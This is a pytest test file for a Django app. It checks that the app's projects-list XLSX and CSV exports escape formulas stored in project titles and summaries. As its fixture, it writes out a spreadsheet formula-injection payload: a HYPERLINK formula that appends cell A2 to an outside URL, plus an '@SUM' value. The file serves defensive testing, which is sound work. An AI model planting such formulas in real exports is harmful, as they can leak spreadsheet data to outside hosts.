"""The projects list's exports never hand a spreadsheet a formula written in a project."""
import csv
import io
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from projects.models import BudgetLine

from .factories import make_project

pytestmark = pytest.mark.django_db

HOSTILE = '=HYPERLINK("http://example.org/?"&A2;"Cliquez")'


@pytest.fixture
def hostile(lyon_commune):
    project = make_project(lyon_commune, title=HOSTILE, summary="@SUM(A1:A9)", is_public=True)
    BudgetLine.objects.create(project=project, source="Ville", amount=Decimal("1500.50"), currency="EUR")
    return project


def test_the_workbook_holds_the_title_as_text_and_the_budget_as_a_number(client, hostile):
    response = client.get("/projets/?format=xlsx")
    sheet = load_workbook(io.BytesIO(response.content)).active
    assert sheet.cell(row=1, column=2).value == "Titre"
    number, title, summary = (sheet.cell(row=2, column=n) for n in (1, 2, 3))
    assert (number.data_type, number.value) == ("n", hostile.pk)
    assert (title.data_type, title.value) == ("s", "'" + HOSTILE)
    assert (summary.data_type, summary.value) == ("s", "'@SUM(A1:A9)")
    budget = sheet.cell(row=2, column=10)
    assert (budget.data_type, budget.value) == ("n", 1500.5)


def test_the_csv_quotes_the_title(client, hostile):
    response = client.get("/projets/?format=csv")
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))
    assert rows[1][1:3] == ["'" + HOSTILE, "'@SUM(A1:A9)"]
    assert rows[1][9] == "1500,50"
